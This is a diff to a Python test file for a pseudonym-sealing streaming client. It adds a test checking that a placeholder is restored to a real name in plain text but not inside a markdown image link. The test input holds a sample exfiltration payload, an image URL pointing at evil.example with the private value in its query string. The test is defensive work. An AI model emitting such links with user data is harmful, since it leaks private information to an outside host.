@@ -13,7 +13,8 @@ from schemas.values import Message
 from streaming.brokers.memory.broker import MemoryBroker
 from streaming.brokers.records import OutboundRecord, Record, TopicPartition
 from streaming.errors import BadEventError
-from streaming.seal.seal import new_key
+from streaming.seal.content import seal_pseudonyms
+from streaming.seal.seal import Sealer, new_key
 from tests.weir.verify.conftest import COMPLETION
 from weir.client import Outcome, WeirClient
 
@@ -35,11 +36,17 @@ async def requests(broker: MemoryBroker, count: int) -> list[Record]:
     return list(await broker.reader.read(partition, 0, count))
 
 
-def completed(offset: int) -> OutboundRecord:
+def completed(offset: int, output: str = "", sealer: Sealer | None = None) -> OutboundRecord:
     source = COMPLETION.request.source.model_copy(update={"partition": 0, "offset": offset})
     request = COMPLETION.request.model_copy(update={"source": source})
+    values = {"<PERSON_1>": "Ada Lovelace"}
+    pseudonyms = (
+        seal_pseudonyms(sealer, request.tenant, request.record_id, values, datetime.now(UTC))
+        if sealer
+        else None
+    )
     completion: Completion = COMPLETION.model_copy(
-        update={"request": request, "output": f"answer {offset}", "pseudonyms": None}
+        update={"request": request, "output": output or f"answer {offset}", "pseudonyms": pseudonyms}
     )
     record = encode(completion, event_id=uuid4(), source="meter", time=datetime.now(UTC))
     return OutboundRecord(COMPLETIONS.name, record.key, record.value, record.headers)
@@ -76,6 +83,18 @@ async def test_each_call_gets_the_outcome_of_its_own_request() -> None:
             await broker.producer.send(completed(offset))
 
         assert [(await call).text for call in (first, second)] == ["answer 0", "answer 1"]
+
+
+async def test_values_are_restored_but_not_in_links() -> None:
+    broker, key = await broker_with_topics(), new_key()
+    text = "*PERSON_1*: ![x](https://evil.example/?q=<PERSON_1>)"
+
+    async with WeirClient("unused", seal_key=key, broker=broker) as client:
+        call = ask(client)
+        await requests(broker, 1)
+        await broker.producer.send(completed(0, text, Sealer.from_text(key)))
+
+        assert (await call).text == "*Ada Lovelace*: ![x](https://evil.example/?q=<PERSON_1>)"
 
 
 async def test_a_dead_letter_is_an_error_with_its_reason() -> None:
